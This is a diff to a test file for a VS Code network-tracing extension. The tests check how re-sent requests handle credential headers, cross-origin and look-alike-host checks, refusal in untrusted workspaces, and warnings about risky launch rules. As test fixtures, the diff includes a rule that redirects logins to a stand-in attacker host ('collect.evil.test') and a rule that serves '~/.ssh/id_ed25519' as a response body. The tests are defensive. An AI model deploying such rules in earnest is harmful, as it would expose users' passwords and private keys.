@@ -20,7 +20,8 @@ const m = bundleTs(
     "export * from './src/extension/httpDocument';",
     "export * from './src/extension/launchWhatIf';",
     "export * from './src/extension/traceStore';",
-    "export { headersToSend } from './src/preload/rules/sendAgain';",
+    "export { headersToSend, sameOrigin } from './src/preload/rules/sendAgain';",
+    "export { redactedHeaderNames } from './src/trace/contract/redact';",
     "export { whatIfRuleFromRequest, WHAT_IF_LIMITS } from './src/rules/whatIfFromRequest';",
     "export { validateRule } from './src/rules';",
     "export { startCollector } from './src/collector/server';",
@@ -127,6 +128,8 @@ test('the request document of Send Again, read back; a REDACTED header keeps wha
     ['Cookie', 'b=2'],
     ['Content-Length', '2'],
   ];
+  const names = m.redactedHeaderNames([]);
+  const secret = (n) => names.has(n);
   assert.deepEqual(
     m.headersToSend(
       sent,
@@ -137,21 +140,150 @@ test('the request document of Send Again, read back; a REDACTED header keeps wha
         ['X-New', '1'],
         ['Content-Length', '99'],
       ],
-      false,
+      true,
+      secret,
     ),
-    [
+    {
+      headers: [
+        ['Authorization', 'Bearer s3cret'],
+        ['Cookie', 'a=1'],
+        ['Cookie', 'b=2'],
+        ['X-New', '1'],
+      ],
+      leftOut: [],
+    },
+    'same origin: each REDACTED value is the one the program sent at that place; framing headers are Node’s',
+  );
+  assert.deepEqual(m.headersToSend(sent, undefined, true, secret), {
+    headers: [
+      ['Host', '127.0.0.1:9'],
       ['Authorization', 'Bearer s3cret'],
       ['Cookie', 'a=1'],
       ['Cookie', 'b=2'],
-      ['X-New', '1'],
     ],
-    'each REDACTED value is the one the program sent at that place; framing headers are Node’s',
-  );
-  assert.deepEqual(m.headersToSend(sent, undefined, true), [
+    leftOut: [],
+  });
+});
+
+test('Send Again to another origin: the redacted values stay at theirs, typed ones go, the message names what was left out', () => {
+  const sent = [
+    ['Host', 'api.example.com'],
     ['Authorization', 'Bearer s3cret'],
     ['Cookie', 'a=1'],
     ['Cookie', 'b=2'],
-  ]);
+    ['X-Api-Key', 'k3y'],
+    ['X-Session-Token', 't0k'],
+    ['Accept', '*/*'],
+  ];
+  const names = m.redactedHeaderNames([]);
+  const secret = (n) => names.has(n);
+  const doc = [
+    ['Host', 'api.example.com'],
+    ['Authorization', '<redacted>'],
+    ['Cookie', '<redacted>'],
+    ['Cookie', '<redacted>'],
+    ['X-Api-Key', '<redacted>'],
+    ['X-Session-Token', '<redacted>'],
+    ['Accept', '*/*'],
+  ];
+  assert.deepEqual(
+    m.headersToSend(sent, doc, false, secret),
+    { headers: [['Accept', '*/*']], leftOut: ['Authorization', 'Cookie', 'X-Api-Key', 'X-Session-Token'] },
+    'no value the program sent goes, the program’s Host neither',
+  );
+  assert.deepEqual(
+    m.headersToSend(
+      sent,
+      [
+        ['Authorization', 'Bearer typed'],
+        ['Cookie', '<redacted>'],
+        ['Accept', '*/*'],
+      ],
+      false,
+      secret,
+    ),
+    {
+      headers: [
+        ['Authorization', 'Bearer typed'],
+        ['Accept', '*/*'],
+      ],
+      leftOut: ['Cookie'],
+    },
+    'a typed value goes as typed',
+  );
+  assert.deepEqual(
+    m.headersToSend(sent, undefined, false, secret),
+    { headers: [['Accept', '*/*']], leftOut: ['Authorization', 'Cookie', 'X-Api-Key', 'X-Session-Token'] },
+    'edits without headers: every header the trace redacts is left out (by name and by pattern)',
+  );
+  const extra = m.redactedHeaderNames(['x-tenant']);
+  assert.deepEqual(
+    m.headersToSend(
+      [
+        ['X-Tenant', 'acme'],
+        ['Accept', '*/*'],
+      ],
+      undefined,
+      false,
+      (n) => extra.has(n),
+    ).leftOut,
+    ['X-Tenant'],
+    'the `redact` option’s names too',
+  );
+
+  assert.equal(m.sameOrigin('http://127.0.0.1:80/a?x=1', 'HTTP://127.0.0.1/b'), true, 'a default port written or not, any case');
+  assert.equal(m.sameOrigin('https://api.example.com/a', 'https://api.example.com:443/'), true);
+  assert.equal(m.sameOrigin('https://api.example.com/a', 'http://api.example.com/a'), false, 'another scheme');
+  assert.equal(m.sameOrigin('http://127.0.0.1:8080/', 'http://127.0.0.1:8081/'), false, 'another port');
+  assert.equal(m.sameOrigin('https://api.example.com/', 'https://api.example.com.evil.test/'), false, 'a look-alike host');
+  assert.equal(m.sameOrigin('https://api.example.com/', 'https://evil.test/@api.example.com'), false);
+  assert.equal(m.sameOrigin('https://api.example.com/', 'not a url'), false, 'unreadable: not the same');
+
+  assert.equal(
+    m.leftOutText(['Authorization', 'Cookie'], 'https://b.test:8443/x', 'https://api.example.com/v1?token=<redacted>'),
+    "Net Trace: sent again to https://b.test:8443 without Authorization and Cookie: their values are the program's credentials for https://api.example.com, " +
+      'and Send Again fills them in only for the same scheme, host and port. Type a value in Send Again with Changes… to send one there.',
+  );
+  const doc2 = m.requestDocument({ reqMethod: 'GET', reqURL: 'https://api.example.com:8443/v1?token=<redacted>', reqHeaders: [] });
+  assert.match(doc2, /sent as the program sent it to https:\/\/api\.example\.com:8443 only \(the same scheme, host and port\)/);
+  assert.match(doc2, /to another origin it is left out/);
+});
+
+test('Send Again in an untrusted workspace: refused with a plain message, nothing asked of the process', async () => {
+  const store = new m.TraceStore({ startCollector: m.startCollector });
+  const rules = new m.RuleService(store, memento());
+  try {
+    const { key } = await store.prepare('untrusted send again', {});
+    const entry = store.get(key);
+    const req = { traceID: 'req-1', pid: 1, client: 'http', ...REQ };
+    entry.session.builder.trace.httpRequests.push(req);
+    const asked = [];
+    entry.session.sendAgain.send = async (...a) => (asked.push(a), { ok: true });
+    const s = {
+      context: { subscriptions: [] },
+      traces: store,
+      panel: { traceKey: key, revealRules() {}, selectedRequest: () => 'req-1', select() {} },
+      rules,
+      log: () => {},
+    };
+    m.registerWhatIfCommands(s, rules);
+    vscode.workspace.isTrusted = false;
+    const warned = [];
+    vscode.prompts.push((msg) => void warned.push(msg));
+    vscode.prompts.push((msg) => void warned.push(msg));
+    await vscode.commands.registered.get(m.WHAT_IF_COMMANDS.sendAgain)({ traceKey: key, traceID: 'req-1' });
+    await vscode.commands.registered.get(m.WHAT_IF_COMMANDS.sendAgainEdited)({ traceKey: key, traceID: 'req-1' });
+    assert.deepEqual(asked, [], 'nothing sent');
+    assert.deepEqual(warned, [m.UNTRUSTED_SEND_AGAIN, m.UNTRUSTED_SEND_AGAIN], 'both commands say why (no document opens)');
+    assert.equal(vscode.prompts.length, 0);
+    assert.match(m.UNTRUSTED_SEND_AGAIN, /^Net Trace: Send Again is off: this workspace is not trusted/);
+    vscode.workspace.isTrusted = true;
+    await vscode.commands.registered.get(m.WHAT_IF_COMMANDS.sendAgain)({ traceKey: key, traceID: 'req-1' });
+    assert.equal(asked.length, 1, 'trusted: sent');
+  } finally {
+    vscode.workspace.isTrusted = undefined;
+    await store.dispose();
+  }
 });
 
 test('untrusted workspace: what-if rules cannot be created or enabled, others can; the banner sentence; the status bar count', async () => {
@@ -262,7 +394,11 @@ test("a launch configuration's what-if rules are shown before they act: Allow (r
   assert.equal(asked[0].modal, true);
   assert.deepEqual(asked[0].buttons, ['Allow', 'Show', 'Not now']);
   assert.match(asked[0].msg, /a what-if rule that changes what the program receives/);
-  assert.match(asked[0].detail, /^"down": fail refused when host == "pay.test"$/m);
+  assert.match(
+    asked[0].detail,
+    /^"down": fail refused when host == "pay.test" — the request fails: connection refused \(ECONNREFUSED\); the server is not contacted; every matching request \(no limit\)$/m,
+  );
+  assert.doesNotMatch(asked[0].msg, /Look before allowing/, 'nothing to call out');
   vscode.prompts.push(() => undefined);
   assert.deepEqual(
     (await m.confirmLaunchWhatIf(rules, own, mem, () => {})).map((r) => r.id),
@@ -296,6 +432,48 @@ test("a launch configuration's what-if rules are shown before they act: Allow (r
     'a changed rule asks again',
   );
   assert.equal(again, true);
+});
+
+test("a launch configuration's prompt calls out, in its first line, a redirect to another host and a file read from disk", async () => {
+  const login = {
+    id: 'login',
+    action: 'respond',
+    respond: { status: 307, headers: { Location: 'https://collect.evil.test/pw' } },
+    condition: 'path == "/login"',
+    enabled: true,
+  };
+  const file = {
+    id: 'keys',
+    action: 'respond',
+    respond: { status: 200, bodyFile: '/home/u/.ssh/id_ed25519' },
+    condition: 'true',
+    enabled: true,
+  };
+  const asked = [];
+  vscode.prompts.push((msg, opts) => (asked.push({ msg, detail: opts.detail }), 'Not now'));
+  assert.deepEqual(
+    await m.confirmLaunchWhatIf(
+      [login, file],
+      () => false,
+      memento(),
+      () => {},
+    ),
+    [],
+  );
+  assert.equal(
+    asked[0].msg,
+    "Net Trace: this launch configuration has 2 what-if rules that change what the program receives (failures, delays, answers in the server's place). " +
+      'Look before allowing: rule "login" redirects to another host, collect.evil.test: a program that follows it sends the same request there, its body (a password, a token) included; ' +
+      'rule "keys" reads the file "/home/u/.ssh/id_ed25519" from disk and gives it to the program as a response body',
+  );
+  assert.match(
+    asked[0].detail,
+    /^"login": respond 307 when path == "\/login" — .*headers Location: https:\/\/collect\.evil\.test\/pw, no body;/m,
+  );
+  assert.match(
+    asked[0].detail,
+    /^"keys": respond 200 from a file when true — .*the body read from the file "\/home\/u\/\.ssh\/id_ed25519" on disk/m,
+  );
 });
 
 test('package.json: the row menu and the palette name every what-if command; Restricted Mode is limited, the guarded settings restricted', async () => {
